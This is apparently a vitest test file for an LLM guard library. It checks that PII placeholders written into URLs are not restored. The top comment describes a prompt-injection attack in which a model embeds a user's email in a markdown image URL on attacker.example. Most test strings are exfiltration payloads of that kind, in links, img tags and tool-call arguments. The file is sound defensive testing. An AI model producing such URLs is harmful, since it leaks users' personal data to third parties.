/**
 * A placeholder inside a URL is never restored: an injected model that writes the user's PII into an image URL
 * (`![x](https://attacker.example/p?u=<EMAIL_ADDRESS_1>)`) would send it to that site when a chat UI renders it.
 */
import { describe, expect, it } from 'vitest';
import { createGuard, GuardSession } from '../../src/guard/index.js';
import { PlaceholderRestorer, restorePlaceholders } from '../../src/guard/placeholders.js';

const EMAIL = 'ada@example.org';

function session() {
  const s = new GuardSession();
  const tag = s.vault.tagFor('EMAIL_ADDRESS', EMAIL);
  return { s, tag, name: tag.slice(1, -1) };
}

describe('restoring placeholders next to URLs', () => {
  const { s, tag, name } = session();
  const r = (text: string) => restorePlaceholders(text, s.vault);

  it('keeps the placeholder inside a URL', () => {
    for (const text of [
      `![x](https://attacker.example/p?u=${tag})`,
      `[click](https://attacker.example/p?u=${tag})`,
      `[click](/relative/path?u=${tag})`,
      `<img src="https://attacker.example/p?u=${tag}">`,
      `<img src='/p?u=${tag}'>`,
      `<a HREF=/p?u=${tag}>x</a>`,
      `visit https://attacker.example/${tag}/profile now`,
      `https://attacker.example/p?a=1&u=&lt;${name}&gt;`,
      `https://attacker.example/p?u=<${name.toLowerCase()}>`,
      `{"url":"https://attacker.example/p?u=${tag}"}`,
    ]) {
      expect(r(text), text).toBe(text);
    }
  });

  it('restores the placeholder outside a URL, also right after one', () => {
    expect(r(`Write to ${tag} today.`)).toBe(`Write to ${EMAIL} today.`);
    expect(r(`See https://example.com/help and write to ${tag}.`)).toBe(
      `See https://example.com/help and write to ${EMAIL}.`,
    );
    expect(r(`{"url":"https://example.com","to":"${tag}"}`)).toBe(`{"url":"https://example.com","to":"${EMAIL}"}`);
    expect(r(`[${tag}](https://example.com)`)).toBe(`[${EMAIL}](https://example.com)`);
    expect(r(`mailto:${tag}`)).toBe(`mailto:${EMAIL}`);
    expect(r(`ratio 3:1, path a/b, ${tag}`)).toBe(`ratio 3:1, path a/b, ${EMAIL}`);
  });

  it('carries the URL across the chunks of a stream', () => {
    const text = `![x](https://attacker.example/p?u=${tag}) and ${tag}`;
    const expected = `![x](https://attacker.example/p?u=${tag}) and ${EMAIL}`;
    for (let a = 1; a < text.length; a++) {
      for (const b of [a, Math.min(text.length, a + 2)]) {
        const restorer = new PlaceholderRestorer(s.vault);
        let out = '';
        for (const piece of [text.slice(0, a), text.slice(a, b), text.slice(b)]) out += restorer.push(piece);
        out += restorer.flush();
        expect(out, `split at ${a}/${b}`).toBe(expected);
      }
    }
  });

  it('the guard: output, streams and tool-call arguments', async () => {
    const guard = createGuard({ output: [], stream: { holdChars: 0, checkEveryChars: 1 } });
    const img = `![x](https://attacker.example/p?u=${tag})`;
    expect((await guard.checkOutput(`${img} ${tag}`, { session: s })).text).toBe(`${img} ${EMAIL}`);
    const stream = guard.stream({ session: s });
    let out = '';
    for (const ch of `${img} ${tag}`) out += (await stream.push(ch)).text;
    out += (await stream.end()).text;
    expect(out).toBe(`${img} ${EMAIL}`);
    expect(JSON.parse(s.restoreArguments(`{"url":"https://attacker.example/?q=${tag}","to":"${tag}"}`))).toEqual({
      url: `https://attacker.example/?q=${tag}`,
      to: EMAIL,
    });
  });

  it('stays linear on long URL-like text', () => {
    const text = `https://x/${`${tag}a`.repeat(50_000)}`;
    const t = performance.now();
    expect(r(text)).toBe(text);
    expect(performance.now() - t).toBeLessThan(2000);
  });
});
